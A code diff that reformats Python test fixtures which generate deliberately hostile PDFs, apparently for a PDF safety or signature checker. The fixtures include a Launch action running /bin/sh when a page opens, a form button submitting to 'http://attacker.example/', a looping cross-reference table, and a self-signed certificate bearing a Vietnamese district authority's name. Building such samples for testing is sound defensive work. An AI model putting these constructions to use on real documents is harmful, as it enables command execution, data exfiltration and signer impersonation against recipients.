@@ -41,10 +41,14 @@ def javascript() -> bytes:
 def launch() -> bytes:
     def edit(pdf: pikepdf.Pdf) -> None:
         action = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="/bin/sh")
-        annot = pdf.make_indirect(pikepdf.Dictionary(
-            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link,
-            Rect=pikepdf.Array([0, 0, 100, 100]), A=action,
-        ))  # fmt: skip
+        annot = pdf.make_indirect(
+            pikepdf.Dictionary(
+                Type=pikepdf.Name.Annot,
+                Subtype=pikepdf.Name.Link,
+                Rect=pikepdf.Array([0, 0, 100, 100]),
+                A=action,
+            )
+        )
         pdf.pages[0].obj.Annots = pikepdf.Array([annot])
         pdf.pages[0].obj.AA = pikepdf.Dictionary(O=action)
 
@@ -61,11 +65,16 @@ def embedded_exe() -> bytes:
 
 def submit_form() -> bytes:
     def edit(pdf: pikepdf.Pdf) -> None:
-        field = pdf.make_indirect(pikepdf.Dictionary(
-            FT=pikepdf.Name.Btn, T="send", Rect=pikepdf.Array([0, 0, 50, 50]),
-            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Widget,
-            A=pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="http://attacker.example/"),
-        ))  # fmt: skip
+        field = pdf.make_indirect(
+            pikepdf.Dictionary(
+                FT=pikepdf.Name.Btn,
+                T="send",
+                Rect=pikepdf.Array([0, 0, 50, 50]),
+                Type=pikepdf.Name.Annot,
+                Subtype=pikepdf.Name.Widget,
+                A=pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="http://attacker.example/"),
+            )
+        )
         pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([field]))
         pdf.pages[0].obj.Annots = pikepdf.Array([field])
 
@@ -124,9 +133,9 @@ def xref_loop() -> bytes:
     body = plain(1)
     start = body.rfind(b"startxref")
     a = len(body)
-    section = (
-        b"xref\n0 1\n0000000000 65535 f \ntrailer<</Size 1/Prev %d>>\n" % (a + 60)
-    ).ljust(60, b" ")
+    section = (b"xref\n0 1\n0000000000 65535 f \ntrailer<</Size 1/Prev %d>>\n" % (a + 60)).ljust(
+        60, b" "
+    )
     return body[:start] + section + b"startxref\n%d\n%%%%EOF\n" % a
 
 
@@ -164,25 +173,35 @@ def self_signed(tmp: Path) -> tuple[Path, Path]:
     from cryptography.x509.oid import NameOID
 
     key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
-    name = x509.Name([
-        x509.NameAttribute(NameOID.COMMON_NAME, "UBND Huyện Hoằng Hóa"),
-        x509.NameAttribute(NameOID.COUNTRY_NAME, "VN"),
-    ])  # fmt: skip
+    name = x509.Name(
+        [
+            x509.NameAttribute(NameOID.COMMON_NAME, "UBND Huyện Hoằng Hóa"),
+            x509.NameAttribute(NameOID.COUNTRY_NAME, "VN"),
+        ]
+    )
     now = datetime.now(UTC)
     cert = (
-        x509.CertificateBuilder().subject_name(name).issuer_name(name)
-        .public_key(key.public_key()).serial_number(x509.random_serial_number())
-        .not_valid_before(now - timedelta(days=1)).not_valid_after(now + timedelta(days=30))
+        x509.CertificateBuilder()
+        .subject_name(name)
+        .issuer_name(name)
+        .public_key(key.public_key())
+        .serial_number(x509.random_serial_number())
+        .not_valid_before(now - timedelta(days=1))
+        .not_valid_after(now + timedelta(days=30))
         .add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True)
-        .add_extension(x509.KeyUsage(True, True, False, False, False, True, True, False, False),
-                       critical=True)
+        .add_extension(
+            x509.KeyUsage(True, True, False, False, False, True, True, False, False), critical=True
+        )
         .sign(key, hashes.SHA256())
-    )  # fmt: skip
+    )
     key_path, cert_path = tmp / "key.pem", tmp / "cert.pem"
-    key_path.write_bytes(key.private_bytes(
-        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
-        serialization.NoEncryption(),
-    ))  # fmt: skip
+    key_path.write_bytes(
+        key.private_bytes(
+            serialization.Encoding.PEM,
+            serialization.PrivateFormat.PKCS8,
+            serialization.NoEncryption(),
+        )
+    )
     cert_path.write_bytes(cert.public_bytes(serialization.Encoding.PEM))
     return key_path, cert_path
 
@@ -205,9 +224,8 @@ async def signed(tmp: Path) -> tuple[bytes, Path]:
 
 def modified_after_signing(data: bytes) -> bytes:
     """An incremental update after the signature that adds a page (a real change)."""
-    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
-
     from pyhanko.pdf_utils import generic
+    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
 
     writer = IncrementalPdfFileWriter(io.BytesIO(data))
     page = writer.root["/Pages"]["/Kids"][0].get_object()
